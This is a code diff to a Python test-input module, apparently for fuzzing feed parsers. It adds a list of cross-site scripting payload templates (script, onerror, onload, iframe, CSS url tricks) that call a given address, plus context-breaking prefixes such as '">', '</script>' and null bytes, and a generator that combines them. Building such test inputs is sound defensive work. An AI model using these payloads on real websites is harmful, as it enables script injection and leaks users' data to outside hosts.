@@ -1,4 +1,4 @@
-"""Feeds as an enemy writes them: real ones with faults put in, and shapes that cost much."""
+"""What an enemy writes: feeds with faults put in, shapes that cost much, and markup that acts."""
 
 import random
 from collections.abc import Callable, Iterator
@@ -117,3 +117,33 @@ SHAPES: dict[str, Callable[[float], bytes]] = {
     ),
 }
 """Shape -> a feed of it, for a size between 0 and 1."""
+
+ACTS = (
+    "<script>fetch('{}')</script>", "<script src={}></script>", "<img src={}>", "<embed src={}>",
+    "<img src=x onerror=fetch('{}')>", "<svg onload=fetch('{}')>", "<iframe src={}></iframe>",
+    "<iframe srcdoc=\"<img src='{}'>\"></iframe>", "<object data={}></object>",
+    "<link rel=stylesheet href={}>", "<meta http-equiv=refresh content='0;url={}'>",
+    "<body onload=fetch('{}')>", "<video src={}></video>", "<audio src={}></audio>",
+    "<video><source src={}></video>", "<video poster={}></video>", "<input type=image src={}>",
+    "<input autofocus onfocus=fetch('{}')>", "<details open ontoggle=fetch('{}')>x</details>",
+    "<style>@import '{}';</style>", "<div style='background:url({})'>x</div>",
+    "<svg><image href={} /></svg>", "<table background={}><tr><td>x</table>",
+    "<picture><source srcset={}><img></picture>", "<img srcset='{} 1x'>",
+    "<x/onclick=x><img src={}>", "<svg><style>*{{background:url({})}}</style></svg>",
+    "<math><mtext><img src={}></mtext></math>",
+)  # fmt: skip
+"""What calls an address when a browser shows it."""
+
+WAYS_OUT = (
+    "", '">', "'>", "</title></style></textarea></script>", "-->", "\0", "]]>", "</a></p></td></tr>"
+)  # fmt: skip
+"""What may end the place that a text stands in, so that what follows is markup."""
+
+
+def attacks(address: str) -> list[str]:
+    """Return each act after each way out. address: what is called, with {} for the act's number."""
+    return [
+        way + act.format(address.format(number))
+        for way in WAYS_OUT
+        for number, act in enumerate(ACTS)
+    ]
